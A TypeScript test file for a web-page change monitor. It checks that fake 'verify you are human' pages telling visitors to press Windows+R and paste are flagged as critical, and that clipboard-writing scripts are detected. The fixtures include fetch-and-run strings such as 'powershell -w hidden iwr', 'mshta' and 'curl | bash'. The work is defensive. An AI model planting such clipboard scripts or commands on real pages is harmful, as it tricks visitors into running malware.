import { expect, test } from "vitest";
import { compare } from "../compare.ts";
import { emptyMemory } from "../noise-memory/noise-memory.ts";
import { snapshotOf } from "../snapshot/create-snapshot.ts";

const page = (body: string) =>
  snapshotOf(`<title>Shop</title><main>${body}</main>`, "html", "https://example.com/");
const shop = "<p>Lamps, chairs and tables, made of oak and sent to your door within a week.</p>".repeat(8);
const scamPage =
  "<h1>Verify you are human</h1><p>Press Windows + R, then Ctrl + V and Enter to prove it.</p>";

test.for([
  ["instead of its content", scamPage],
  ["above its content", `${scamPage}${shop}`],
])("a page that asks visitors to run a command %s is critical", ([, body = ""]) => {
  const { verdict } = compare(page(shop), page(body), emptyMemory());
  expect(verdict).toMatchObject({ changed: true, severity: "critical" });
  expect(verdict.summary).toMatch(/^Page asks its visitors to run a command by hand/);
});

test("an edit of a page that already explained such keys is a notice", () => {
  const { verdict } = compare(
    page(scamPage + shop),
    page(`${scamPage}${shop}<p>More chairs</p>`),
    emptyMemory(),
  );
  expect(verdict.severity).toBe("notice");
});

const longComment = `;/* ${"a script of its own ".repeat(250)} */`;

test.for([
  ["navigator.clipboard.writeText('powershell -w hidden iwr x')", true],
  ["const c = 'mshta https://x'; document.execCommand('copy')", true],
  ["navigator.clipboard.writeText(x); run('curl https://x | bash')", true],
  ["navigator.clipboard.writeText('cmd /cstart calc')", true],
  ["fetchBy('curl https://x'); navigator.clipboard.writeText(x)", false],
  [`navigator.clipboard.writeText(x)${longComment}'powershell'`, false],
  ["navigator.clipboard.writeText(location.href)", false],
] as const)("a script that puts a command on the clipboard is recognized: %s", ([code, isPasteScam]) => {
  const { verdict } = compare(page(shop), page(`${shop}<script>${code}</script>`), emptyMemory());
  const found = verdict.reasons.some(({ summary }) => /a command to its visitors' clipboard/.test(summary));
  expect(found).toBe(isPasteScam);
});
